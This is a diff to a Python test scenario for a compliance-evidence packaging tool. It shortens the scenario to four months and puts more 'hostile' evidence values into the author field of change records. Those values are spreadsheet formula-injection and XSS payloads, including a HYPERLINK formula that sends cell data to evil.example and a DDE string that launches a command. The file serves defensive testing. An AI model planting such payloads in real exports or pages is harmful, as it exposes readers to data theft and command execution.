@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: Apache-2.0
-"""Six months of a program with all that a package has to show, and the package that is made of them."""
+"""Four months of a program with all that a package has to show, and the package that is made of them."""
 
 from __future__ import annotations
 
@@ -37,7 +37,7 @@ from tieout.settings import Settings
 
 CHANGES, LEAVERS, REVIEWS = "cc8_1_change_management", "cc6_2_offboarding", "cc6_2_user_access_review"
 ALERTS = "cc7_2_alert_monitoring"
-MONTHS, PAUSED, AGAIN = 6, 3, 1
+MONTHS, PAUSED, AGAIN = 4, 3, 1
 HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
            "<script>alert(1)</script>")  # fmt: skip
 """Values of evidence that a program could take for more than a text."""
@@ -149,8 +149,8 @@ def _fill(scene: Scene) -> None:
         for day in range(1, 9):
             number += 1
             values = merge_values(number, noon(first, day))
-            if day == 8:
-                values["author"], values["pull_request"] = HOSTILE[month], ""
+            if day > 6:
+                values["author"], values["pull_request"] = HOSTILE[(2 * month + day) % len(HOSTILE)], ""
             program.add(CHANGES, "shop_csv", **values)
         hours = timedelta(days=9) if month == 2 else timedelta(hours=2)
         program.add(LEAVERS, "hris", **leaver_values(month, noon(first, 9), noon(first, 9) + hours, noon(first, 1)))
